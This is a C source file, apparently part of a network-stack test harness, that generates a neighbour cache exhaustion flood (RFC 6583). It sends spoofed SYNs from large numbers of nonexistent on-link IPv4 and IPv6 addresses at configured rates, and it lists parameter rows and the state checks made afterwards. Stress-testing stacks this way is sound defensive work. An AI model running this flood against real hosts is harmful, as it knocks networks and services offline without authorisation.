/* SPDX-License-Identifier: BSD-3-Clause */

/* Neighbour exhaustion (RFC 6583): SYNs whose on-link sources do not exist. Each answer needs a
 * neighbour entry. The entries of neighbours in use and of the gateway must stay. Half-open connections
 * stay 63 s. Each of their SYN,ACKs starts address resolution; the last resolution fails 3 s after the last
 * SYN,ACK. (CVE-2010-4669 and CVE-2010-4670 do this with router advertisements.) */

#include "abuse.h"

static void
step(struct abuse *w)
{
	const struct row *r = abuse_params(w);

	for (uint32_t k = abuse_due(w, r->rate); k > 0; k--) {
		uint32_t source = abuse_random(w) % r->n;
		struct frame f = {.src = spoof_source(source, r->ip6, true),
				  .sport = (uint16_t)(1024 + abuse_random(w) % 60000),
				  .dport = r->variant ? 1 : HTTP, /* port 1 is closed: RST */
				  .flags = SYN,
				  .seq = abuse_random(w),
				  .win = 65535};

		spoof_tcp(w, &f);
	}
}

static void
end(struct abuse *w)
{
	(void)w;
}

static const struct row rows[] = {
	{.n = 40000, .rate = 600},
	{.n = 40000, .rate = 600, .ip6 = true},
	{.n = 40000, .rate = 5000},
	{.n = 10000000, .rate = 5000, .ip6 = true},
	{.n = 2000, .rate = 100, .ms = 40000}, /* entries in use become STALE in this time */
	{.n = 40000, .rate = 5000, .variant = 1},
	{.n = 40000, .rate = 1000, .pool = 2048, .ip6 = true},
	{.n = 10000000, .rate = 20000, .ms = 40000, .longer = true, .ip6 = true},
};

const struct attack attack_neigh_exhaustion = {
	.name = "neigh_exhaustion",
	.kind = "neighbour cache exhaustion, RFC 6583: SYNs from on-link addresses that do not "
		"exist",
	ROWS(rows),
	.later = 1 << G_LIVE | 1 << G_HALF_OPEN | 1 << G_RESERVED4 | 1 << G_RESERVED6 | 1 << G_NEIGHBOURS |
		 1 << G_BUFFERS,
	.later_ms = 67000,
	.step = step,
	.end = end,
};
